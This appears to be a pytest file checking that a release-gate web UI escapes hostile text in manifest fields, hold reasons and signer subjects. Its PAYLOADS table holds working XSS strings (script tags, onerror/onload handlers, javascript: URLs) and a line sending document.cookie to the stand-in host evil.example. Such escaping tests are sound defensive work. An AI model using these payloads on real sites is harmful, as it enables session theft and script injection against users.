"""Markup in any text a manifest or a hold carries shows as text, and nothing of it runs.

Every free-text field of a manifest (objection summaries and rationales, evidence
refs) and every subject (which may hold ``<``, ``>``, quotes), and a hold reason,
carries a payload; the pages must show each payload, escaped, and contain no
element or attribute that the page itself did not put there.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.ui._html import Page, parse
from tests.ui._scenario import LANE, ApiKeys, Trust, manifest, objection

PAYLOADS = {
    "summary": "<script>alert('summary')</script>",
    "rationale": '"><img src=x onerror=alert("rationale")>',
    "ref": "</td><iframe src=javascript:alert('ref')></iframe>",
    "raised_by": "<svg/onload=alert('raised_by')>",
    "accepted_by": "'><body/onload=alert('accepted_by')>",
    "release_owner": "<a/href=javascript:alert('owner')>x</a>",
    "signer": "<style>*{display:none}</style>",
    "hold": "<script>document.location='//evil.example/'+document.cookie</script>",
    "template": "{{ 7 * 7 }}{% raw %}",
}
#: What the gate's own templates use; anything else came from data.
OWN_TAGS = {
    "html", "head", "meta", "title", "link", "body", "header", "nav", "a", "div", "span",
    "strong", "form", "input", "button", "p", "main", "h1", "h2", "h3", "h4", "section",
    "table", "thead", "tbody", "tr", "th", "td", "code", "br", "ul", "li", "article", "dl",
    "dt", "dd", "time", "footer", "label",
}  # fmt: skip


def _approved(trust: Trust) -> dict[str, Any]:
    def mutate(doc: dict[str, Any]) -> None:
        doc["evidence"][0]["ref"] = PAYLOADS["ref"]
        doc["objections"][0]["raised_by"] = PAYLOADS["raised_by"]

    objections = [
        objection("OBJ-1", PAYLOADS["summary"], rationale=PAYLOADS["rationale"]),
        objection("OBJ-2", PAYLOADS["template"], rationale=PAYLOADS["template"]),
    ]
    return manifest(trust, revision=1, packet_id="PKT-X", objections=objections, mutate=mutate)


def _denied(trust: Trust) -> dict[str, Any]:
    def mutate(doc: dict[str, Any]) -> None:
        doc["release_owner"] = PAYLOADS["release_owner"]
        doc["objections"][0]["residual_acceptance"]["accepted_by"] = PAYLOADS["accepted_by"]

    document = manifest(
        trust,
        revision=2,
        packet_id="PKT-X",
        objections=[objection("OBJ-3", "fine", rationale="fine")],
        mutate=mutate,
    )
    forged = dict(document["signatures"][0], subject=PAYLOADS["signer"])
    document["signatures"].append(forged)
    return document


@pytest.fixture
def hostile(gate: TestClient, trust: Trust, api_keys: ApiKeys) -> dict[str, Any]:
    headers = {"content-type": "application/json", **api_keys.bearer("evaluator")}
    decisions = {}
    for name, document in (("approved", _approved(trust)), ("denied", _denied(trust))):
        response = gate.post("/v1/evaluate", content=json.dumps(document).encode(), headers=headers)
        assert response.status_code == 200, response.text
        decisions[name] = response.json()
    assert decisions["approved"]["allow"] is True
    assert decisions["denied"]["allow"] is False
    hold = {"packet_id": "PKT-X", "revision": 2, "lane": LANE, "reason": PAYLOADS["hold"]}
    placed = gate.post("/v1/holds", json=hold, headers=api_keys.bearer("release_owner"))
    assert placed.status_code == 201
    return decisions


def _nothing_injected(page: Page) -> None:
    assert page.tags <= OWN_TAGS, page.tags - OWN_TAGS
    for tag, attrs in page.elements:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        for name in ("href", "src", "action"):
            value = (attrs.get(name) or "").strip().lower()
            assert not value.startswith(("javascript:", "data:", "//", "http:", "https:")), attrs


class TestEscaping:
    def test_packet_page_shows_every_payload_as_text(
        self, gate: TestClient, api_keys: ApiKeys, hostile: dict[str, Any]
    ) -> None:
        response = gate.get("/ui/packets/PKT-X", headers=api_keys.bearer("auditor"))
        assert response.status_code == 200
        page = parse(response.text)
        _nothing_injected(page)
        shown = page.text
        for field, payload in PAYLOADS.items():
            if field != "template":  # (plain text: no character to escape)
                assert payload not in response.text, field  # never as markup
            if field not in ("ref", "signer", "accepted_by"):  # shown only inside messages
                assert payload in shown, field  # but shown, as text
        assert PAYLOADS["template"] in shown  # as written, not evaluated

    def test_the_list_and_the_error_pages_too(
        self, gate: TestClient, api_keys: ApiKeys, hostile: dict[str, Any]
    ) -> None:
        for path in ("/ui/", "/ui/?lane=<script>", "/ui/packets/<script>", "/ui/signin"):
            response = gate.get(path, headers=api_keys.bearer("auditor"))
            _nothing_injected(parse(response.text))
        page = parse(gate.get("/ui/", headers=api_keys.bearer("auditor")).text)
        assert PAYLOADS["hold"] in page.text  # the held revision's reason, as text

    def test_a_subject_in_a_violation_message_is_text(
        self, gate: TestClient, api_keys: ApiKeys, hostile: dict[str, Any]
    ) -> None:
        messages = [v["message"] for v in hostile["denied"]["violations"]]
        with_markup = [m for m in messages if "<" in m]
        assert with_markup, messages  # the policy quotes a hostile subject...
        page = parse(gate.get("/ui/packets/PKT-X", headers=api_keys.bearer("auditor")).text)
        for message in with_markup:
            assert message in page.text  # ...and the page shows it as text
        _nothing_injected(page)
